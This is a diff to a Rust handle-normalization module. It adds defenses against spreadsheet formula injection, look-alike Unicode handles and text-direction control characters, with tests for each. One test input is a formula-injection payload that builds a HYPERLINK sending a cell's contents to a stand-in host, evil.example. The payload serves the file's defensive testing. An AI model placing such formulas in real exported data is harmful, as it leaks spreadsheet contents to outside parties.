@@ -1,7 +1,10 @@
 //! Handles the way people paste them (`@name`, `name`, profile links) reduced to the one form
 //! the roster stores and compares, with the platform a link names.
 
+use unicode_normalization::UnicodeNormalization;
+
 use super::model::Platform;
+use crate::text::strip_bidi_controls;
 
 /// A handle reduced to the form stored and compared: lower case, no `@`, no URL.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -21,11 +24,16 @@ const PLATFORM_HOSTS: &[(&str, Platform)] = &[
 
 /// Normalizes `@name`, `name`, `instagram.com/name/`, `https://www.tiktok.com/@name?lang=en`
 /// and `youtube.com/@name` to `name`. Handles on other platforms keep their site
-/// (`twitch.tv/name`) so that two sites' `name` stay different people.
+/// (`twitch.tv/name`) so that two sites' `name` stay different people. Text-direction marks
+/// are dropped; what starts like a spreadsheet formula is refused.
 pub fn normalize_handle(input: &str) -> Result<NormalizedHandle, String> {
-    let t = input.trim();
+    let stripped = strip_bidi_controls(input);
+    let t = stripped.trim();
     if t.is_empty() {
         return Err("is empty".into());
+    }
+    if t.trim_start_matches('@').starts_with(['=', '+', '-', '@']) {
+        return Err(FORMULA.into());
     }
     let lower = t.to_lowercase();
     let without_scheme = lower
@@ -47,6 +55,17 @@ pub fn normalize_handle(input: &str) -> Result<NormalizedHandle, String> {
         platform: None,
         handle: check_chars(name)?,
     })
+}
+
+const FORMULA: &str = "cannot start with =, + or - (a spreadsheet would read it as a formula)";
+
+/// The key two handles are told apart by: the handle folded by NFKC (fullwidth `ｚｏｅ` is
+/// `zoe`), lower-cased, then reduced to its Unicode confusables skeleton (UTS #39), so that
+/// `zoe.eats` with a Cyrillic `о` or a Greek `ο` has the key of `zoe.eats`. Only compared,
+/// never shown: the roster keeps the handle as typed.
+pub fn handle_key(handle: &str) -> String {
+    let folded = handle.nfkc().collect::<String>().to_lowercase();
+    unicode_security::skeleton(&folded).collect()
 }
 
 /// A profile link: `t` as typed (channel ids keep their case), `without_scheme` lower-cased.
@@ -85,8 +104,9 @@ fn from_link(t: &str, without_scheme: &str) -> Result<NormalizedHandle, String> 
     }
     // Another site: a host like example.com (no empty labels, no spaces) and a path.
     let is_host = host.contains('.')
-        && host.split('.').all(|label| !label.is_empty())
-        && !host.contains(char::is_whitespace);
+        && host.split('.').all(|label| {
+            !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-')
+        });
     if is_host && !segments.is_empty() && !segments.iter().any(|s| s.contains(char::is_whitespace))
     {
         let joined = format!("{host}/{}", segments.join("/"));
@@ -103,7 +123,8 @@ fn from_link(t: &str, without_scheme: &str) -> Result<NormalizedHandle, String> 
     ))
 }
 
-/// A bare name as stored, or why it cannot be one.
+/// A bare name as stored, or why it cannot be one. Its characters are checked in their NFKC
+/// form, so a fullwidth `ｚｏｅ．ｅａｔｓ` passes as `zoe.eats` would, and is kept as typed.
 fn check_chars(name: &str) -> Result<String, String> {
     if name.is_empty() {
         return Err("is empty".into());
@@ -111,8 +132,15 @@ fn check_chars(name: &str) -> Result<String, String> {
     if name.chars().count() > 100 {
         return Err("is too long (at most 100 characters)".into());
     }
+    if name
+        .nfkc()
+        .next()
+        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@'))
+    {
+        return Err(FORMULA.into());
+    }
     if let Some(bad) = name
-        .chars()
+        .nfkc()
         .find(|c| !(c.is_alphanumeric() || matches!(c, '.' | '_' | '-')))
     {
         return Err(format!(
@@ -180,6 +208,49 @@ mod tests {
         ] {
             assert!(normalize_handle(text).is_err(), "{text}");
         }
+    }
+
+    #[test]
+    fn what_a_spreadsheet_would_run_is_not_a_handle() {
+        for text in [
+            r#"=HYPERLINK(CONCAT("evil.example/",A2,"/x"),"open")"#,
+            "=1+1",
+            "+491701234",
+            "-zoe",
+            "@=cmd",
+            "@@-x",
+            "＝1+1",
+            "evil(1).example/zoe",
+        ] {
+            assert!(normalize_handle(text).is_err(), "{text}");
+        }
+        assert!(normalize_handle("=1+1").unwrap_err().contains("formula"));
+    }
+
+    #[test]
+    fn look_alike_handles_share_one_key_and_keep_their_spelling() {
+        let key = handle_key("zoe.eats");
+        for look_alike in [
+            "z\u{43e}e.eats",                                                   // Cyrillic о
+            "z\u{3bf}e.eats",                                                   // Greek ο
+            "\u{ff5a}\u{ff4f}\u{ff45}.\u{ff45}\u{ff41}\u{ff54}\u{ff53}",        // fullwidth
+            "\u{ff3a}\u{ff2f}\u{ff25}\u{ff0e}\u{ff25}\u{ff21}\u{ff34}\u{ff33}", // fullwidth capitals and dot
+        ] {
+            let typed = normalize_handle(look_alike).unwrap().handle;
+            assert_ne!(typed, "zoe.eats", "the handle is kept as typed");
+            assert_eq!(handle_key(&typed), key, "{look_alike}");
+        }
+        assert_ne!(handle_key("zoe.bakes"), key);
+    }
+
+    #[test]
+    fn text_direction_marks_are_dropped_from_handles() {
+        assert_eq!(
+            normalize_handle("\u{200F}@zoe\u{202E}.eats\u{2069}")
+                .unwrap()
+                .handle,
+            "zoe.eats"
+        );
     }
 
     proptest! {
